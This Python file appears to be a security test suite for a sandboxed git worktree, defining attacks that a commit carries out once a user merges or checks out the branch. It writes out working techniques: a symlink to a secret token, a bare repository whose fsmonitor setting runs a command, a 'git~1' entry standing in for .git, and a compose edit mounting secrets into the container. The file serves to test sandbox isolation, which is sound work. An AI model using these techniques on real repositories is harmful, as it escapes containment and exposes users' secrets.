"""What a commit brings, once the user takes the branch over."""

from attacks.attack import Attack, Side
from attacks.pointers import overwrote

# Into the main checkout, as people do with a branch that is done.
MERGE = 'cd "$MAIN" && git merge --quiet --no-edit $(git -C "$WORKTREE" branch --show-current)'

BARE = """
git init --quiet --bare bare && cd bare && touch objects/kept refs/kept
git config core.bare false && git config core.worktree .. && git config core.fsmonitor "touch $CANARY; false"
cd .. && git add bare && git commit --quiet --message bare
"""
# git itself would refuse to add this one.
DOT_GIT = """
tree=$({ git ls-tree HEAD; printf '100644 blob %s\\tgit~1\\n' $(echo x | git hash-object -w --stdin); } | git mktree)
git reset --quiet --soft $(git commit-tree -p HEAD -m planted $tree)
"""
# In the sandbox these can only be read: not so in a commit.
COMPOSE = """
for file in .devcontainer/docker-compose.yml .devcontainer/compose.wt.yml; do
  [ -f $file ] || continue
  blob=$(sed "s#^    volumes:#&\\n      - $SECRET:/stolen#" $file | git hash-object -w --stdin)
  git update-index --cacheinfo 100644,$blob,$file
done
git commit --quiet --message compose
"""


def is_in_branch(side: Side, _attack: Attack) -> bool:
    branch = side.git("branch", "--show-current", cwd=side.worktree).strip()
    return "git~1" in side.git("ls-tree", "-r", "--name-only", branch)


ATTACKS = (
    Attack(
        "symlink out of the tree, written through after a merge",
        'ln -s "$SECRET/token" report && git add report && git commit --quiet --message report',
        then=f"{MERGE}; echo done >report; rm report",
        fired=overwrote,
    ),
    Attack("bare repository in the tree, entered after a merge", BARE, then=f'{MERGE}; cd "$MAIN/bare" && git status'),
    Attack("name that a file system may take for .git", DOT_GIT, fired=is_in_branch),
    Attack(
        "compose file changed in a commit, checked out before the next start",
        COMPOSE,
        then="git reset --quiet --hard",
        fired=lambda side, _: "token" in side.inside("ls /stolen").stdout,
    ),
)
